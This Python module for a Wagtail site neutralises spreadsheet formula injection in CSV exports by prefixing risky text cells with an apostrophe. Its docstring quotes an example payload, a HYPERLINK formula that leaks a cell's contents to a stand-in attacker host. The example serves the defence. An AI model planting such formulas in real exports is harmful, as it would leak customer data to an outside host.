"""CSV exports that a spreadsheet will not run as formulas.

Customer names and e-mail addresses come from shoppers and from PayPal; a value such as
``=HYPERLINK("http://evil.example/?leak="&B2,"x")`` would otherwise reach ``?export=csv`` as is
and run when the file is opened. Wagtail's :class:`~wagtail.admin.views.mixins.SpreadsheetExportMixin`
routes every cell through ``preprocess_field_value`` (XLSX is already safe: openpyxl's formula
cells are turned back into strings there), so that is where text cells are neutralised, as
OWASP recommends: a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
gets a leading apostrophe. Numbers and dates are not text and stay as they are.
"""

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value):
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


class SafeCsvExportMixin:
    """Put before a view class that has Wagtail's SpreadsheetExportMixin."""

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        return neutralise_cell(value) if export_format == self.FORMAT_CSV else value
